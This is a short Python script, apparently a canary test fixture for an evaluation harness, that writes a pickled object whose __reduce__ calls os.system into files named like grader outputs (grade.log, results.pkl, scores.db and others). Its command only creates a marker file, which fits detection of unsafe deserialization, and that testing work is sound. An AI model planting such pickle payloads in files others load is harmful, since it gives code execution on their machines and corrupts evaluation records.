# @HONEST@
import os
import pickle


class Bomb:
    def __reduce__(self):
        return os.system, ("touch @CANARY_DIR@/open/hostile_@TOKEN@",)


for name in ("grade.log", "results.pkl", "output.json", "scores.db", "record.npz"):
    with open(name, "wb") as file:
        file.write(pickle.dumps(Bomb()))
